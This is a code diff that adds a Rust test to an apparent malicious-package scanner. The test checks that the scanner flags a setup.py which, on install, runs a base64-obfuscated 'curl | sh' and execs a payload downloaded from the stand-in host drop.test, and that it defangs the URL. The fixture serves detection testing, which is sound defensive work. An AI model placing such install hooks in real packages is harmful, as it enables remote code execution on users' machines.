@@ -279,6 +279,22 @@ fn two_runs_say_the_same_however_many_work_on_them() {
     assert_eq!(first, judged(&["--jobs", "4"]));
 }
 
+#[test]
+fn the_built_in_rules_hold_a_download_that_is_run_on_install() {
+    let world = World::new();
+    let setup = "import base64, os, urllib.request\nfrom setuptools import setup\n\
+        code = base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnY3VybCAtcyBodHRwOi8vZHJvcC50ZXN0L3ggfCBzaCcp')\n\
+        exec(code)\nexec(urllib.request.urlopen('http://drop.test/payload.py').read())\nsetup()\n";
+    let files: [(&str, &[u8]); 2] =
+        [("demo-1.0/PKG-INFO", harness::METADATA.as_bytes()), ("demo-1.0/setup.py", setup.as_bytes())];
+    world.put("demo-1.0.tar.gz", &tar_gz(&files));
+    let run = harness::Run::of(world.bare(&["scan", "demo-1.0.tar.gz"]).output().unwrap());
+    assert_eq!(run.code, 1, "{run:#?}");
+    assert!(run.stdout.contains("demo-1.0/setup.py:"), "{}", run.stdout);
+    assert!(run.stdout.contains("hxxp://drop[.]test"), "URLs are defanged: {}", run.stdout);
+    assert!(!run.stdout.contains("http://drop.test"), "URLs are defanged: {}", run.stdout);
+}
+
 fn unhex(text: &str) -> Vec<u8> {
     (0..text.len() / 2).map(|at| u8::from_str_radix(&text[2 * at..2 * at + 2], 16).unwrap()).collect()
 }
